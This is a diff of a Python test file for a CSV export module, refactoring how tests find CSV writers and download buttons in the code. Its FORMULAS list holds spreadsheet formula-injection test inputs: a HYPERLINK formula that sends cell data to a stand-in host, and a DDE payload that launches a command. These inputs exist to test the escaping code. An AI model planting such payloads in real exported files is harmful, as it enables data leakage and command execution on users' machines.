@@ -5,14 +5,13 @@ from __future__ import annotations
 import ast
 import io
 from collections.abc import Iterator
-from pathlib import Path
 
 import numpy as np
 import pandas as pd
 import pytest
 
 from fmnist.csv_export import escape_cell, escape_table, format_csv
-from fmnist.settings import PROJECT_DIR
+from tests.support.sources import walk_modules
 
 FORMULAS = [
     '=HYPERLINK("http://x.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1",
@@ -68,28 +67,27 @@ def test_numbers_of_every_kind_are_read_back() -> None:
     )
 
 
-def find_calls(name: str) -> Iterator[tuple[Path, ast.Call]]:
-    """Yield every call of a function or method of this name in the program."""
-    paths = [*PROJECT_DIR.glob("*.py"), *PROJECT_DIR.glob("pages/*.py")]
-    for path in [*paths, *PROJECT_DIR.glob("fmnist/**/*.py")]:
-        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
-            if isinstance(node, ast.Call) and name in ast.unparse(node.func).split(".")[-1:]:
-                yield path.relative_to(PROJECT_DIR), node
+def find_calls(name: str) -> Iterator[tuple[str, ast.Call]]:
+    """Yield every call of a function or method of this name in the program, and its module."""
+    for module, node in walk_modules("app.py", "pages", "fmnist"):
+        match node:
+            case ast.Call(ast.Attribute(attr=called) | ast.Name(called)) if called == name:
+                yield module, node
 
 
 def test_every_csv_text_is_made_by_the_one_function() -> None:
-    assert {path.as_posix() for path, _ in find_calls("to_csv")} == {"fmnist/csv_export.py"}
+    assert {module for module, _ in find_calls("to_csv")} == {"fmnist/csv_export.py"}
     # Its columns are numbers; the program reads these files back.
     writers = [*find_calls("writer"), *find_calls("DictWriter")]
-    assert {path.as_posix() for path, _ in writers} == {"fmnist/training/reporter.py"}
+    assert {module for module, _ in writers} == {"fmnist/training/reporter.py"}
 
 
 def test_every_download_is_made_on_the_click() -> None:
     """Its data are a function, a lambda or a partial: called at each rerun, they would be kept."""
     downloads = list(find_calls("download_button"))
     assert len(downloads) >= 6
-    for path, call in downloads:
+    for module, call in downloads:
         given = {keyword.arg: keyword.value for keyword in call.keywords}
         data = call.args[1] if len(call.args) > 1 else given["data"]
         is_partial = isinstance(data, ast.Call) and ast.unparse(data.func) == "partial"
-        assert is_partial or isinstance(data, ast.Lambda | ast.Name), f"{path}:{call.lineno}"
+        assert is_partial or isinstance(data, ast.Lambda | ast.Name), f"{module}:{call.lineno}"
